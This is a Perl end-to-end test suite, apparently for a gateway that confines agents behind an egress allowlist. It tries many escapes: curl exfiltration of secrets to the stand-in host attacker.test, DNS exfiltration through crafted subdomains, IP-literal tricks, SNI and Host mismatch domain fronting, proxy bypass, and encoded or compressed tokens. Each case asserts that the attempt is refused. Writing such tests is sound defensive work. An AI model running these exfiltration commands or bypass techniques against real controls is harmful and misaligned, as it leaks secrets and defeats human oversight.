#!/usr/bin/perl

# The escape suite: agents in network namespaces of their own attack the
# gateway with real clients, one test per attack, named after the rows of
# the threat model (shared/spec/threat-model.txt).  Each test checks what
# the agent sees AND that the upstream or attacker host received nothing.
# The topology (t/e2e/topology) is made with ip netns and veth pairs:
# two bottles, the gateway started from nginx-conf/ by
# scripts/bottle-gateway, and a fake internet.  docs/escape-attempts.md
# lists every attack, where it runs and what is not covered yet.

###############################################################################

use warnings;
use strict;

use Test::More;

BEGIN { use FindBin; chdir($FindBin::Bin); }

use lib 'lib';
use lib 'e2e';
use Test::Nginx;
use Test::Bottle;
use E2E;

use IO::Socket::INET;
use MIME::Base64 qw/ encode_base64 /;
use File::Temp qw//;
use IO::Compress::Gzip qw//;
use IO::Compress::Deflate qw//;
use Time::HiRes qw/ time sleep /;

###############################################################################

select STDERR; $| = 1;
select STDOUT; $| = 1;

our $TODO;

plan(skip_all => 'needs root: the topology is made of network namespaces')
	if $> != 0;

my $PREFIX = "bt$$-";
{
	my $probe = "${PREFIX}probe";
	my $out = `ip netns add $probe 2>&1`;
	plan(skip_all => "ip netns is not available here: $out") if $?;
	system('ip', 'netns', 'del', $probe);
}

# only for the feature checks, its test directory and its cleanup: nginx
# is the launcher's, inside the gateway namespace

my $t = Test::Nginx->new()
	->has(qw/http proxy stream http_ssl http_v2 bottle dnsmasq openssl/)
	->has_daemon('curl');

my $DIR = $t->testdir() . '/e2e';
my $e;

# whatever happens, the topology goes: at the end, on die (END), on a
# signal (first the command the test waits for, then the topology), and
# before Test::Nginx removes the directory

my $down;

sub topology_down {
	return if $down++;
	local ($?, $@, $!);
	E2E::home_ns();
	my $out = `'$E2E::TOPOLOGY' down --dir '$DIR' --prefix '$PREFIX' 2>&1`;
	print STDERR "# topology down failed:\n$out" if $?;
}

$SIG{INT} = $SIG{TERM} = $SIG{HUP} = sub {
	kill 'KILL', -$E2E::CHILD, $E2E::CHILD if $E2E::CHILD;
	topology_down();
	exit 1;
};

END {
	# (naming $t keeps it, and so its directory, alive until here)
	topology_down() if $t;
}

{
	my $out = `'$E2E::TOPOLOGY' up --dir '$DIR' --prefix '$PREFIX' --module '$Test::Nginx::MODULE' --nginx '$Test::Nginx::NGINX' 2>&1`;
	BAIL_OUT("topology up failed:\n$out") if $?;
	$e = E2E->load($DIR);
}

my $START = time();
my $PY = `python3 -c 'print(1)' 2>/dev/null` eq "1\n";
my $NOPY = 'no python3';
my $PROXY = $e->{gateway}{proxy};
my %A = %{$e->{addr}};
my $S = $e->{secrets};
my $CANARY = $e->{agents}{'agent-a'}{canary};
my $INITIAL = $e->snapshot();

# everything of the fake internet, and agent A's own service
my @ALL = qw/ api api-plain api-alt forge pass attacker attacker-plain
	agent-a-svc dns-gw dns-public dns-attacker /;
my @ATTACKER = qw/ attacker attacker-plain dns-attacker dns-public /;

# secrets of the agent's, to be exfiltrated: $HIDDEN where the gateway
# must not log it (query, headers, body), $SECRET also in hosts and paths
my $SECRET = 'exfil' . join '', map { sprintf '%02x', int rand 256 } 1 .. 8;
my $HIDDEN = 'hidden' . join '', map { sprintf '%02x', int rand 256 } 1 .. 8;

plan(tests => 25);

###############################################################################

sub auth {
	my ($agent) = @_;
	return 'Proxy-Authorization: '
		. basic($agent, $e->{agents}{$agent}{token}) . "\r\n";
}

# a connection to the proxy, made from inside an agent's namespace

sub session {
	my ($agent) = @_;
	return $e->in_ns($agent, sub { proxy_session($PROXY, timeout => 5) });
}

# CONNECT $target from $agent (as => whose token, host => Host header,
# noauth => 1); returns (session, response)

sub tunnel {
	my ($agent, $target, %o) = @_;
	my $s = session($agent) or return (undef, '(no connection)');
	$s->send("CONNECT $target HTTP/1.1\r\nHost: " . ($o{host} // $target)
		. "\r\n" . ($o{noauth} ? '' : auth($o{as} // $agent)) . "\r\n");
	return ($s, $s->read_response() // '');
}

# one plain-HTTP proxy request, the response

sub plain {
	my ($agent, $url, %o) = @_;
	my ($host) = $url =~ m!^\w+://([^/]+)!;
	my $s = session($agent) or return '(no connection)';
	my $body = $o{body} // '';
	$s->send(($o{method} // 'GET') . " $url HTTP/1.1\r\nHost: "
		. ($o{host} // $host) . "\r\n" . auth($o{as} // $agent)
		. ($o{headers} // '')
		. (length $body ? 'Content-Length: ' . length($body) . "\r\n" : '')
		. "Connection: close\r\n\r\n$body");
	return $s->read_response() // '';
}

sub curl { return $e->curl(@_); }

# the hosts listed received nothing since the snapshot

sub nothing_received {
	my ($snap, $what, @names) = @_;
	@names = @ALL unless @names;
	my $got = $e->received($snap, @names);
	is_deeply([ sort keys %$got ], [], "$what: nothing reached "
		. join(', ', @names))
		or diag(explain($got));
}

# no record of these servers since the snapshot holds $needle

sub never_carried {
	my ($snap, $needle, $what, @names) = @_;
	my $got = $e->received($snap, @names);
	my @hits = grep { JSON::PP->new->canonical->encode($_) =~ /\Q$needle\E/ }
		map { @$_ } values %$got;
	is(scalar @hits, 0, $what) or diag(explain(\@hits));
}

sub status {
	my ($r) = @_;
	# the last status line: through a tunnel, curl shows the CONNECT's first
	my @s = $r =~ /^HTTP\/[\d.]+ (\d{3})/mg;
	return @s ? $s[-1] : 'none';
}

###############################################################################
# 1. Network exfiltration to unlisted hosts

subtest 'row 1: unlisted hostname' => sub {
	my $snap = $e->snapshot();
	my $mark = $e->gw_mark();

	my $r = curl('agent-a', "http://attacker.test/x?d=$SECRET");
	like($r, qr/^HTTP\/1\.1 403 .*^X-Bottle-Rule: no_route/msi,
		'curl, plain HTTP: 403 no_route');
	like($r, qr/not on this bottle's egress allowlist.*egress-allow/s,
		'the refusal says why and what to ask for');

	my ($r2, $rc) = curl('agent-a', "https://attacker.test/x?d=$SECRET");
	like($r2, qr/^HTTP\/1\.1 403 .*^X-Bottle-Rule: no_route/msi,
		'curl, HTTPS: CONNECT refused with 403 no_route');
	isnt($rc, 0, 'curl, HTTPS: no tunnel');

	for my $name ('ATTACKER.test', 'attacker.test.', 'AtTaCkEr.TeSt.') {
		is(status(plain('agent-a', "http://$name/x")), 403,
			"spelled $name: 403");
	}

	my @l = $e->refusals($mark);
	is(scalar(grep { /host="attacker\.test" rule="no_route" status=403 .*client=192\.0\.2\.2$/ } @l),
		5, 'one refusal line each, the host canonical, the agent\'s address');
	unlike(join("\n", @l), qr/\Q$SECRET\E/, 'the query is not logged');

	nothing_received($snap, 'unlisted hostname');
};

subtest 'row 1: IP literal, in every spelling' => sub {
	my $snap = $e->snapshot();

	# the attacker's address, and the address an allowed name resolves to
	my %spell = (
		'203.0.113.66' => [ '203.0.113.66', '0xcb.0x0.0x71.0x42',
			'0313.0.0161.0102', '3405803842', '0xcb007142',
			'203.0.28994', '203.28994', '0313.0x0.113.0102' ],
		'203.0.113.10' => [ '203.0.113.10', '3405803786', '0xcb00710a',
			'0313.0.0161.012' ],
	);

	my $n = 0;
	my $mark = $e->gw_mark();
	for my $ip (sort keys %spell) {
		for my $s (@{$spell{$ip}}) {
			my $r = plain('agent-a', "http://$s/x?d=$SECRET");
			like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: no_route/s,
				"GET http://$s/: 403 no_route");
			my (undef, $c) = tunnel('agent-a', "$s:443");
			like($c, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: no_route/s,
				"CONNECT $s:443: 403 no_route");
			$n += 2;
		}
	}

	my $r = curl('agent-a', 'http://0xcb.0x0.0x71.0x42/x');
	like($r, qr/^HTTP\/1\.1 403 /, 'curl with a hex URL: 403');

	my @l = $e->refusals($mark);
	my %hosts;
	$hosts{$_}++ for map { /host="([^"]*)" rule="no_route"/ ? $1 : () } @l;
	is_deeply(\%hosts, { '203.0.113.66' => 2 * @{$spell{'203.0.113.66'}} + 1,
		'203.0.113.10' => 2 * @{$spell{'203.0.113.10'}} },
		'every spelling logged in its canonical form') or diag(join "\n", @l);

	for my $s ('[::ffff:203.0.113.66]', '[::ffff:cb00:7142]',
		'[::ffff:203.0.113.10]')
	{
		my (undef, $c) = tunnel('agent-a', "$s:443");
		like($c, qr/^HTTP\/1\.1 403 /, "CONNECT $s:443 (IPv4-mapped): 403");
		like(plain('agent-a', "http://$s/x"), qr/^HTTP\/1\.1 403 /,
			"GET http://$s/ (IPv4-mapped): 403");
	}

	nothing_received($snap, 'IP literals');
};

subtest 'row 1: raw TCP after CONNECT' => sub {
	my $snap = $e->snapshot();
	my $mark = $e->gw_mark();

	my @cases = (
		[ 'api.allowed.test:443', "SSH-2.0-OpenSSH_9.2p1\r\n", 'inspected, SSH banner' ],
		[ 'api.allowed.test:443', "\x00\x01\x02$SECRET\n", 'inspected, binary' ],
		[ 'pass.allowed.test:443', "SSH-2.0-OpenSSH_9.2p1\r\n", 'passthrough, SSH banner' ],
		[ 'pass.allowed.test:443', "GET /$SECRET HTTP/1.1\r\nHost: pass.allowed.test\r\n\r\n",
			'passthrough, plain HTTP' ],
		[ 'pass.allowed.test:443', "\x16\x03\x01\x00\x05hello", 'passthrough, a TLS record that is no ClientHello' ],
	);

	for my $c (@cases) {
		my ($s, $r) = tunnel('agent-a', $c->[0]);
		like($r, qr/^HTTP\/1\.1 200 /, "$c->[2]: tunnel opened");
		$s->send($c->[1]) if $s;
		my $got = $s ? $s->read_all(4) : 'x';
		is($got, '', "$c->[2]: closed, nothing answered");
		ok($s && $s->eof, "$c->[2]: the gateway closed the connection");
	}

	my @raw = grep { /rule="raw_tcp"/ } $e->refusals($mark, qr/raw_tcp/);
	ok(@raw >= 1, 'raw TCP logged') or diag($e->gw_log('error.log'));

	# (the gateway resolved the passthrough host: dns-gw was asked)
	nothing_received($snap, 'raw TCP', grep { $_ ne 'dns-gw' } @ALL);
};

###############################################################################
# 2. DNS exfiltration

subtest 'row 2: crafted subdomain of an allowed host' => sub {
	my $snap = $e->snapshot();

	my $r = curl('agent-a', "http://$SECRET.api.allowed.test/");
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: no_route/s,
		'plain HTTP to <secret>.api.allowed.test: 403 no_route');
	($r) = curl('agent-a', "https://$SECRET.api.allowed.test/");
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: no_route/s,
		'CONNECT <secret>.api.allowed.test:443: 403 no_route');
	(undef, $r) = tunnel('agent-a', "$SECRET.API.Allowed.Test.:443");
	like($r, qr/^HTTP\/1\.1 403 /, 'in another case, with a trailing dot: 403');
	($r) = curl('agent-a', "https://api.allowed.test.$SECRET.attacker.test/");
	like($r, qr/^HTTP\/1\.1 403 /, 'allowed name as a prefix: 403');

	never_carried($snap, $SECRET, 'no DNS server was asked for the secret',
		qw/ dns-gw dns-public dns-attacker /);
	nothing_received($snap, 'crafted subdomain');
};

subtest 'row 2: direct DNS to the public resolver and to the attacker' => sub {
	# they do answer, from the internet
	my $ok = $e->in_ns('internet', sub {
		E2E::dns_query($A{public_resolver}, 'control.example', 'A',
			timeout => 2);
	});
	is($ok && $ok->{answers}[0], '198.51.100.99',
		'control: the public resolver answers on the internet');

	my $snap = $e->snapshot();

	for my $c ([ 'public resolver', $A{public_resolver} ],
		[ 'attacker DNS', $A{attacker} ],
		[ 'the gateway\'s own resolver', $A{dns} ])
	{
		for my $tcp (0, 1) {
			my $r = $e->in_ns('agent-a', sub {
				E2E::dns_query($c->[1], "$SECRET.attacker.test", 'TXT',
					timeout => 1.5, tcp => $tcp);
			});
			ok(!defined $r, "agent to the $c->[0] ($c->[1]) over "
				. ($tcp ? 'TCP' : 'UDP') . ': no answer');
		}
	}

	my $r = $e->in_ns('agent-b', sub {
		E2E::dns_query($A{public_resolver}, "$SECRET.attacker.test", 'A',
			timeout => 1.5);
	});
	ok(!defined $r, 'bottle B to the public resolver: no answer');

	my ($out, $rc) = $e->run('agent-a', [ 'sh', '-c',
		"curl -sS --noproxy '*' --connect-timeout 2 --doh-url https://$A{public_resolver}/dns-query https://$SECRET.attacker.test/ 2>&1" ]);
	isnt($rc, 0, 'DNS over HTTPS to the public resolver\'s address: fails');

	never_carried($snap, $SECRET, 'the secret reached no DNS server',
		qw/ dns-gw dns-public dns-attacker dns-agents /);
	nothing_received($snap, 'direct DNS');
};

subtest 'row 2: the runtime resolver' => sub {
	my $snap = $e->snapshot();
	my $agents = scalar(my @q = $e->dns_log('agents'));

	my ($out, $rc) = $e->run('agent-a', [ 'getent', 'ahosts',
		"$SECRET.attacker.test" ]);
	is($rc, 2, 'getent (the libc resolver): the name does not resolve');

	($out, $rc) = $e->run('agent-a', [ 'getent', 'hosts', 'api.allowed.test' ]);
	is($rc, 2, 'not even an allowed name resolves in the bottle');

	SKIP: {
		skip($NOPY, 1) unless $PY;
		($out) = $e->run('agent-a', [ 'python3', '-c',
			"import socket\ntry:\n socket.getaddrinfo('$SECRET.api.allowed.test', 443)\n print('resolved')\nexcept socket.gaierror as e:\n print('gaierror', e)" ]);
		like($out, qr/^gaierror/, 'Python getaddrinfo: gaierror');
	}

	my @asked = $e->dns_log('agents');
	ok((grep { /\Q$SECRET\E.* from 192\.0\.2\.2$/ } @asked[$agents .. $#asked]),
		'the bottle\'s resolver was asked (and knows no name)');
	my $nx = $e->in_ns('agent-a', sub {
		E2E::dns_query($A{'gw-a'}, 'api.allowed.test', 'A', timeout => 2);
	});
	is($nx && $nx->{rcode_name}, 'NXDOMAIN',
		'the bottle\'s resolver answers NXDOMAIN for an allowed name');

	never_carried($snap, $SECRET, 'nothing was forwarded: no other DNS server saw the secret',
		qw/ dns-gw dns-public dns-attacker /);
	nothing_received($snap, 'runtime resolver');
};

###############################################################################
# 3. HTTP exfiltration

subtest 'row 3: HTTP exfiltration to an unlisted host (path, query, body, headers)' => sub {
	my $snap = $e->snapshot();

	# the secret in the path is logged like any path; in the query, the
	# headers and the body it must not be
	for my $scheme ('http', 'https') {
		my ($r, $rc) = curl('agent-a', '-X', 'POST',
			'-H', "X-Exfil: $HIDDEN", '-H', "Cookie: s=$HIDDEN",
			'-H', "Authorization: Bearer $HIDDEN",
			'--data-binary', "body=$HIDDEN",
			"$scheme://attacker.test/$SECRET?q=$HIDDEN");
		like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: no_route/s,
			"$scheme: 403 no_route");
	}

	my $r = plain('agent-a', "http://attacker.test/$SECRET", method => 'PUT',
		body => $HIDDEN x 1000, headers => "X-Exfil: $HIDDEN\r\n");
	like($r, qr/^HTTP\/1\.1 403 /, 'PUT with a large body: 403');

	my ($out) = !$PY ? ('') : $e->run('agent-a', [ 'python3', '-c', <<"EOF" ]);
import urllib.request as u, urllib.error as ue
for url in ("http://attacker.test/$SECRET?q=$HIDDEN", "https://attacker.test/$SECRET?q=$HIDDEN"):
    try:
        u.urlopen(u.Request(url, data=b"$HIDDEN", headers={"X-Exfil": "$HIDDEN"}), timeout=10)
        print("sent", url)
    except ue.HTTPError as e:
        print("refused", e.code)
    except ue.URLError as e:
        print("refused", e.reason)
EOF
	SKIP: {
		skip($NOPY, 1) unless $PY;
		like($out, qr/\Arefused 403\nrefused Tunnel connection failed: 403/,
			'Python urllib: both refused with 403');
	}

	for my $log ('error.log', 'access.log', 'stream.log') {
		unlike($e->gw_log($log), qr/\Q$HIDDEN\E/,
			"query, header and body values are not in $log");
	}
	nothing_received($snap, 'HTTP exfiltration');
};

# DLP is joining the gateway: a case is TODO until a request that carries
# the secret in plain sight to an allowlisted host, over the same
# transport, is refused (the probes below), so the cases start passing by
# themselves when DLP lands

sub refused_probe {
	my ($what, @curl) = @_;
	my $r = curl('agent-a', @curl);
	my $refused = status($r) eq '403';
	diag("$what is not refused yet: its cases are TODO") unless $refused;
	return $refused;
}

# each case: [ what, 'tls' or 'plain', curl arguments ... ]

sub dlp_cases {
	my ($todo, $landed, @cases) = @_;
	for my $c (@cases) {
		my ($what, $via, @args) = @$c;
		local $TODO = "$todo ($via)" unless $landed->{$via};
		my $r = curl('agent-a', @args);
		is(status($r), 403, "$what: 403");
	}
}

subtest 'row 3: the canary to an allowlisted host' => sub {
	my %landed = (
		plain => refused_probe('the canary over plain HTTP',
			"http://api.allowed.test/probe?c=$CANARY"),
		tls => refused_probe('the canary inside intercepted TLS',
			"https://api.allowed.test/probe?c=$CANARY"),
	);
	my $api = 'https://api.allowed.test';
	(my $pct = $CANARY) =~ s/(.)/sprintf '%%%02X', ord $1/ge;

	my $snap = $e->snapshot();

	dlp_cases('DLP: the canary is not refused yet', \%landed,
		[ 'canary in the path', 'tls', "$api/x/$CANARY" ],
		[ 'canary in the query', 'tls', "$api/x?q=$CANARY" ],
		[ 'canary percent-encoded in the query', 'tls', "$api/x?q=$pct" ],
		[ 'canary in a header', 'tls', '-H', "X-Note: $CANARY", "$api/x" ],
		[ 'canary in a cookie', 'tls', '-b', "c=$CANARY", "$api/x" ],
		[ 'canary in the body', 'tls', '--data-binary', "a=1&b=$CANARY",
			"$api/x" ],
		[ 'canary deep in a large chunked body (HTTP/1.1)', 'tls',
			'--http1.1', '-H', 'Transfer-Encoding: chunked', '--data-binary',
			'{"note": "' . ('x' x 9000) . "$CANARY\"}", "$api/x" ],
		[ 'canary over HTTP/1.1', 'tls', '--http1.1', "$api/x?q=$CANARY" ],
		[ 'canary in plain HTTP, query', 'plain',
			"http://api.allowed.test/x?q=$CANARY" ],
		[ 'canary in plain HTTP, body', 'plain', '--data-binary', $CANARY,
			'http://api.allowed.test/x' ],
	);

	{
		local $TODO = 'DLP: the canary is not refused yet (tls)'
			unless $landed{tls};
		my ($r) = curl('agent-b', "$api/x?q=$e->{agents}{'agent-b'}{canary}");
		is(status($r), 403, 'bottle B\'s canary from bottle B: 403');

		never_carried($snap, $CANARY, 'the canary reached no upstream',
			qw/ api api-plain /);
		nothing_received($snap, 'canary',
			qw/ api api-plain attacker attacker-plain /);
	}

	# the agent's own value of the header the route replaces: it would
	# never leave, but the canary anywhere is always a block
	$snap = $e->snapshot();
	{
		my ($r) = curl('agent-a', '-H', "Authorization: Bearer $CANARY",
			"$api/x");
		is(status($r), 403, 'canary in the agent\'s Authorization: 403');
	}
	never_carried($snap, $CANARY,
		'the canary in the agent\'s Authorization never reaches the upstream',
		qw/ api /);
};

subtest 'row 3: an injected token, encoded, to an allowlisted host' => sub {
	my $tok = $S->{API_A};
	my %landed = (
		plain => refused_probe('an injected token over plain HTTP',
			'-H', "X-Note: $tok", 'http://api.allowed.test/probe'),
		tls => refused_probe('an injected token inside intercepted TLS',
			'-H', "X-Note: $tok", 'https://api.allowed.test/probe'),
	);
	my $api = 'https://api.allowed.test';
	my $b64 = encode_base64($tok, '');
	my $hex = unpack('H*', $tok);
	(my $pct = $tok) =~ s/(.)/sprintf '%%%02X', ord $1/ge;
	my $half = int(length($tok) / 2);

	my $snap = $e->snapshot();

	dlp_cases('DLP: known_secrets is not in the gateway yet', \%landed,
		[ 'injected token, raw, in the query', 'tls', "$api/x?q=$tok" ],
		[ 'injected token, base64, in the body', 'tls',
			'--data-binary', "d=$b64", "$api/x" ],
		[ 'injected token, hex, in a header', 'tls', '-H', "X-Note: $hex",
			"$api/x" ],
		[ 'injected token, percent-encoded, in the query', 'tls',
			"$api/x?q=$pct" ],
		[ 'injected token, base64, in the path', 'tls', "$api/x/$b64" ],
		[ 'injected token, split over two headers', 'tls',
			'-H', 'X-A: ' . substr($tok, 0, $half),
			'-H', 'X-B: ' . substr($tok, $half), "$api/x" ],
		[ 'bottle A\'s forge token, to api', 'tls', "$api/x?q=$S->{FORGE_A}" ],
		[ 'injected token, base64, in plain HTTP', 'plain',
			'--data-binary', $b64, 'http://api.allowed.test/x' ],
	);

	# compressed so that no byte of it shows: decoded and found, or refused
	my $dir = File::Temp::tempdir(CLEANUP => 1);
	my %body;
	IO::Compress::Gzip::gzip(\"{\"k\": \"$tok\"}" => \$body{gzip}) or die;
	IO::Compress::Deflate::deflate(\"k=$tok" => \$body{deflate}) or die;
	IO::Compress::Gzip::gzip(\$body{deflate} => \$body{'deflate, gzip'})
		or die;
	for my $c (sort keys %body) {
		(my $f = "$dir/$c") =~ s/, /-/;
		open my $fh, '>:raw', $f or die "$f: $!";
		print $fh $body{$c};
		close $fh;
		my $r = curl('agent-a', '-H', "Content-Encoding: $c",
			'--data-binary', "\@$f", "$api/x");
		is(status($r), 403, "injected token in a $c body: 403");
	}
	my $r = curl('agent-a', '-H', 'Content-Encoding: zstd',
		'--data-binary', "\@$dir/gzip", "$api/x");
	like($r, qr/cannot be decoded for scanning/,
		'a body in a coding the gateway does not decode: refused');

	local $TODO = 'DLP: known_secrets is not in the gateway yet'
		unless $landed{tls} && $landed{plain};
	never_carried($snap, $tok, 'the raw token reached no upstream',
		qw/ api api-plain /);
	never_carried($snap, $b64, 'nor its base64', qw/ api api-plain /);
	never_carried($snap, $hex, 'nor its hex', qw/ api api-plain /);
	nothing_received($snap, 'injected token', qw/ api api-plain /);
};

###############################################################################
# 6. Credential theft

subtest 'row 6: the agent\'s Authorization and an attacker\'s cookie never reach an allowed host' => sub {
	my $snap = $e->snapshot();

	for my $c ([ 'HTTPS, HTTP/2', 'api', 'https' ],
		[ 'HTTPS, HTTP/1.1', 'api', 'https', '--http1.1' ],
		[ 'plain HTTP', 'api-plain', 'http' ])
	{
		my ($what, $up, $scheme, @more) = @$c;
		my $r = curl('agent-a', @more,
			'-H', 'Authorization: Bearer agent-own-key',
			'-H', 'Cookie: session=attacker-cookie; other=1',
			'-H', 'X-Api-Key: agent-key', '-H', 'Private-Token: agent-pat',
			'-b', 'jar=attacker-jar',
			"$scheme://api.allowed.test/creds?access_token=agent-qt&x=1");
		is(status($r), 200, "$what: allowed");

		my $q = $e->requests($up)->[-1] // {};
		is($q->{target}, '/creds?x=1', "$what: query credential stripped");
		is_deeply([ header_value($q, 'Authorization') ], [ "Bearer $S->{API_A}" ],
			"$what: only the route's credential");
		is(header_count($q, 'Cookie'), 0, "$what: no cookie");
		is(header_count($q, 'X-Api-Key') + header_count($q, 'Private-Token'),
			0, "$what: no agent key header");
		is(header_count($q, 'Proxy-Authorization'), 0,
			"$what: no proxy credential upstream");
		unlike($r, qr/\Q$S->{API_A}\E/, "$what: the injected token is not shown to the agent");
	}

	my $r = curl('agent-a', 'https://_egress.local/allowlist');
	like($r, qr/"host": "api.allowed.test"/, 'the agent may read its allowlist');
	unlike($r, qr/\Q$S->{API_A}\E|\Q$S->{FORGE_A}\E|\Q$e->{agents}{'agent-a'}{token}\E|\Q$CANARY\E/,
		'the allowlist shows no secret');

	my %env = $e->agent_env('agent-a');
	unlike(join("\n", %env), qr/\Q$S->{API_A}\E|\Q$S->{FORGE_A}\E/,
		'no upstream credential in the agent\'s environment');

	never_carried($snap, 'agent-own-key', 'the agent\'s own key reached no host');
	never_carried($snap, 'attacker-cookie', 'the cookie reached no host');
	never_carried($snap, 'attacker-jar', 'nor the cookie jar\'s');
	nothing_received($snap, 'credentials', @ATTACKER);
};

###############################################################################
# 7. Proxy bypass

subtest 'row 7: proxy bypass' => sub {
	my $snap = $e->snapshot();

	my ($r, $rc) = curl('agent-a', '--noproxy', '*',
		'https://api.allowed.test/');
	is($rc, 6, 'curl --noproxy \'*\': the name does not resolve');

	for my $c ([ 'https', 443 ], [ 'http', 80 ]) {
		($r, $rc) = curl('agent-a', '--noproxy', '*', '--connect-timeout', '2',
			'--resolve', "api.allowed.test:$c->[1]:$A{api}",
			"$c->[0]://api.allowed.test/x?d=$SECRET");
		ok($rc == 28 || $rc == 7,
			"curl --noproxy '*' --resolve to the upstream's address, $c->[0]: no connection")
			or diag("curl exit $rc: $r");
	}

	for my $peer ("$A{api}:443", "$A{api}:80", "$A{attacker}:80",
		"$A{forge}:443", "$A{'inet-up'}:80")
	{
		my ($s, $why) = $e->tcp('agent-a', $peer, 1.5);
		ok(!$s, "direct TCP to $peer: no connection") or $s->close();
	}

	my ($out) = !$PY ? ('') : $e->run('agent-a', [ 'python3', '-c', <<"EOF" ]);
import urllib.request as u
o = u.build_opener(u.ProxyHandler({}))
try:
    o.open("http://$A{api}/x", timeout=2)
    print("reached")
except Exception as e:
    print("failed", type(e).__name__)
EOF
	SKIP: {
		skip($NOPY, 1) unless $PY;
		like($out, qr/^failed/, 'Python urllib without the proxy: fails');
	}

	nothing_received($snap, 'proxy bypass');
};

subtest 'row 7: CONNECT to a listed host\'s other port' => sub {
	my $snap = $e->snapshot();

	my (undef, $r) = tunnel('agent-a', 'api.allowed.test:8443');
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: port/s, 'CONNECT :8443: 403 port');
	(undef, $r) = tunnel('agent-a', 'api.allowed.test:22');
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: port/s, 'CONNECT :22: 403 port');
	($r) = curl('agent-a', 'https://api.allowed.test:8443/');
	like($r, qr/^HTTP\/1\.1 403 /, 'curl https://...:8443: 403');
	($r) = curl('agent-a', 'http://api.allowed.test:8443/');
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: port/s, 'plain http://...:8443: 403 port');
	(undef, $r) = tunnel('agent-a', 'pass.allowed.test:8443');
	like($r, qr/^HTTP\/1\.1 403 /, 'passthrough route, other port: 403');

	nothing_received($snap, 'other port');
};

###############################################################################
# 8. CONNECT tunnelling to an unlisted host

subtest 'row 8: CONNECT to an unlisted host, also while Host names a listed one' => sub {
	my $snap = $e->snapshot();

	my ($s, $r) = tunnel('agent-a', 'attacker.test:443');
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: no_route/s,
		'CONNECT attacker.test:443: 403 no_route');
	$s->send("\x16\x03\x01\x00\x05hello") if $s;
	ok(!$s || !$s->read_all(2), 'no tunnel after the refusal');

	(undef, $r) = tunnel('agent-a', 'attacker.test:443',
		host => 'api.allowed.test:443');
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: no_route/s,
		'CONNECT attacker.test, Host api.allowed.test: 403 no_route');

	(undef, $r) = tunnel('agent-a', 'attacker.test:80', host => 'api.allowed.test');
	like($r, qr/^HTTP\/1\.1 403 /, 'CONNECT attacker.test:80, Host api.allowed.test: 403');

	$r = plain('agent-a', "http://attacker.test/$SECRET", host => 'api.allowed.test');
	like($r, qr/^HTTP\/1\.1 403 /,
		'plain HTTP to attacker.test, Host api.allowed.test: 403');
	$r = plain('agent-a', "http://api.allowed.test/$SECRET", host => 'attacker.test');
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: host_mismatch/s,
		'plain HTTP to api.allowed.test, Host attacker.test: 403 host_mismatch');

	nothing_received($snap, 'CONNECT to an unlisted host');
};

subtest 'row 8: SNI, Host and :authority mismatches inside a tunnel' => sub {
	my $snap = $e->snapshot();

	# domain fronting with a real client: CONNECT to the listed host, TLS
	# and Host for the unlisted one
	my ($r) = curl('agent-a', '--connect-to',
		'attacker.test:443:api.allowed.test:443',
		"https://attacker.test/$SECRET");
	like($r, qr/^HTTP\/2 403 .*x-bottle-rule: host_mismatch/msi,
		'curl --connect-to (CONNECT api, SNI and :authority attacker): 403');
	($r) = curl('agent-a', '--http1.1', '--connect-to',
		'attacker.test:443:api.allowed.test:443',
		"https://attacker.test/$SECRET");
	like($r, qr/^HTTP\/1\.1 403 /m, 'the same over HTTP/1.1: 403');

	($r) = curl('agent-a', '-H', 'Host: attacker.test',
		"https://api.allowed.test/$SECRET");
	like($r, qr/^HTTP\/2 403 .*x-bottle-rule: host_mismatch/msi,
		'HTTP/2 :authority names the unlisted host: 403');
	($r) = curl('agent-a', '--http1.1', '-H', 'Host: attacker.test',
		"https://api.allowed.test/$SECRET");
	like($r, qr/^HTTP\/1\.1 403 .*X-Bottle-Rule: host_mismatch/msi,
		'HTTP/1.1 Host names the unlisted host: 403');

	# SNI names the unlisted host, Host the listed one
	my ($s, $c) = tunnel('agent-a', 'api.allowed.test:443');
	ok($s && $s->start_ssl(SSL_hostname => 'attacker.test'),
		'TLS with SNI attacker.test inside a tunnel to api.allowed.test');
	$s->send("GET /$SECRET HTTP/1.1\r\nHost: api.allowed.test\r\n"
		. "Connection: close\r\n\r\n") if $s;
	like($s ? $s->read_response() // '' : '', qr/^HTTP\/1\.1 403 .*SNI/s,
		'SNI names another host: 403');

	# an absolute URI to the unlisted host inside the tunnel
	($s, $c) = tunnel('agent-a', 'api.allowed.test:443');
	$s->start_ssl(SSL_hostname => 'api.allowed.test') if $s;
	$s->send("GET http://attacker.test/$SECRET HTTP/1.1\r\nHost: attacker.test\r\n"
		. "Connection: close\r\n\r\n") if $s;
	like($s ? $s->read_response() // '' : '', qr/^HTTP\/1\.1 403 /,
		'absolute URI to attacker.test inside the tunnel: 403');

	# openssl s_client, SNI attacker.test
	my $tok = $e->{agents}{'agent-a'}{token};
	my ($out) = $e->run('agent-a', [ 'sh', '-c',
		"openssl s_client -quiet -ign_eof -proxy $PROXY -proxy_user agent "
		. "-proxy_pass pass:$tok -connect api.allowed.test:443 "
		. "-servername attacker.test -CAfile \"\$SSL_CERT_FILE\" 2>&1" ],
		stdin => "GET /$SECRET HTTP/1.1\r\nHost: attacker.test\r\nConnection: close\r\n\r\n");
	like($out, qr/^HTTP\/1\.1 403 /m, 'openssl s_client, SNI attacker.test: 403');

	nothing_received($snap, 'mismatches', grep { $_ ne 'pass' } @ALL);

	# a passthrough route checks only the CONNECT target: whatever the SNI
	# says, the bytes go to the checked address and nowhere else
	my $before = $e->connects('pass');
	($s, $c) = tunnel('agent-a', 'pass.allowed.test:443');
	ok($s && $s->start_ssl(SSL_hostname => 'attacker.test'),
		'passthrough: TLS with SNI attacker.test goes through (not covered)');
	my @ev;
	for (1 .. 40) {
		@ev = grep { ($_->{event} // '') eq 'connect' } @{$e->events('pass')};
		last if @ev > $before;
		sleep 0.05;
	}
	is($ev[-1] && $ev[-1]{sni}, 'attacker.test',
		'...to the passthrough host\'s own address');
	nothing_received($snap, 'passthrough with another SNI', @ATTACKER, 'api');
